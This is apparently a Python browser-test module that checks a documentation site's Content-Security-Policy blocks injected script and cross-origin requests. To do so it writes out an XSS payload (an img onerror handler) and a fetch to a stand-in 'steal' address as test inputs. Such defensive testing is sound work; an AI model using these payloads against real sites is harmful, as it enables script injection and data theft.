"""The Content-Security-Policy of the pages (book/_ext/csp.py) holds in Chromium.

Every page loads without a single violation of its own policy (the theme's inline scripts are
allowed by hash): ``assert_policy_kept``, which tests/browser/test_pages.py runs on each page it loads;
script injected into a page does not run; nothing can be fetched from another origin.
"""

from __future__ import annotations

from browser.conftest import open_page

# Recorded from the first script of a page on (page.add_init_script): each violation of the page's policy.
CSP_WATCH = """window.violations = [];
document.addEventListener("securitypolicyviolation", e => window.violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`));"""

WATCH = """() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", e => window.violations.push(`${e.violatedDirective} ${e.blockedURI}`));
}"""


def assert_policy_kept(page, page_log) -> None:
    """The loaded page (watched by CSP_WATCH from its start) has one policy, a strict one, and broke none of it.

    tests/browser/test_pages.py runs this on every page of the book, on the page it loads once for all its checks.
    """
    policy = page.locator('meta[http-equiv="Content-Security-Policy"]')
    assert policy.count() == 1
    content = policy.get_attribute("content")
    assert "script-src 'self'" in content and "connect-src 'self'" in content and "'unsafe-inline'" not in content.split("style-src")[0]
    assert page.evaluate("window.violations") == []
    assert not [error for error in page_log.console_errors if "Content Security Policy" in error], page_log.console_errors


def test_injected_script_does_not_run_and_other_origins_are_refused(page, site):
    open_page(page, site, "berlin.html")
    page.evaluate(WATCH)
    page.evaluate(
        """() => {
            const box = document.createElement("div");
            box.innerHTML = '<img src="data:," onerror="window.pwned = 1; localStorage.setItem(`pwned`, 1)">';
            document.body.append(box);
            const s = document.createElement("script");
            s.textContent = "window.pwned = 2";
            document.body.append(s);
        }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("() => window.pwned") is None
    assert page.evaluate("() => localStorage.getItem('pwned')") is None
    refused = page.evaluate(
        """async () => { try { await fetch("http://198.51.100.7/steal"); return "sent"; } catch (e) { return "refused"; } }"""
    )
    assert refused == "refused"
    violations = page.evaluate("window.violations")
    assert any(v.startswith("script-src") for v in violations), violations
    assert any(v.startswith("connect-src") for v in violations), violations


def test_search_with_summaries_breaks_no_policy(page, page_log, site):
    """The search fetches and parses other pages for its summaries, under the search page's policy."""
    page.add_init_script(CSP_WATCH)
    open_page(page, site, "search.html?q=Berlin")
    page.locator("#search-results li").first.wait_for(timeout=30_000)
    page.wait_for_timeout(1000)
    assert page.evaluate("window.violations") == []
    assert not [error for error in page_log.console_errors if "Content Security Policy" in error], page_log.console_errors
